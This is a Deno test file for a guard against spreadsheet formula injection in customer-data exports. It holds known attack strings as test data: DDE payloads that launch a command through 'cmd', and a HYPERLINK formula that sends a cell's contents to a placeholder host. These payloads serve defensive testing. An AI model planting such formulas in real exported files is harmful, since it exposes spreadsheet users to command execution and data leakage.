import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";
import { withFormula, withoutFormula } from "lib/customers/reading/formulas.ts";

Deno.test("withoutFormula() disarms what spreadsheets run", () => {
  for (
    const text of [
      "=cmd|'/c calc'!A1",
      "=1+1",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      " =1+1",
      "＝1+1",
      '=HYPERLINK("http://x/?"&A1,"y")',
      "+49 170 1234567",
      "-",
    ]
  ) {
    assertEquals(withoutFormula(text), `'${text}`);
  }
  assertEquals(withoutFormula("\t=1+1"), "\t'=1+1");
  // Where a comma is a decimal sign, a semicolon begins the next cell.
  assertEquals(withoutFormula("x;=1+1;+2"), "x;'=1+1;'+2");
});

Deno.test("withoutFormula() leaves ids and numbers as they are", () => {
  for (
    const text of [
      "",
      "C-17",
      "a=b",
      "7590-VHVEG",
      "-5",
      "+4.5",
      "-1,234.5",
      "x@y.org",
      "a;b",
      "'=1",
    ]
  ) assertEquals(withoutFormula(text), text);
});

Deno.test("withoutFormula() leaves no cell that begins with a sign of a formula", () => {
  fc.assert(fc.property(
    fc.string({ unit: fc.constantFrom(..."=+-@＝;\t\r\n'a1 ") }),
    (text) => {
      for (const cell of withoutFormula(text).split(/[;\t\r\n]/)) {
        assert(!/^[=+\-@＝]/.test(cell) || /^[+-]?\d+$/.test(text), cell);
      }
      assertEquals(
        withoutFormula(text).replaceAll("'", ""),
        text.replaceAll("'", ""),
      );
    },
  ));
});

Deno.test("withFormula() gives back what withoutFormula() has guarded", () => {
  const sign = fc.constantFrom(..."=+-@＝ \t;a1\n");
  fc.assert(
    fc.property(fc.array(sign), (signs) => {
      assertEquals(withFormula(withoutFormula(signs.join(""))), signs.join(""));
    }),
    { seed: 3 },
  );
});
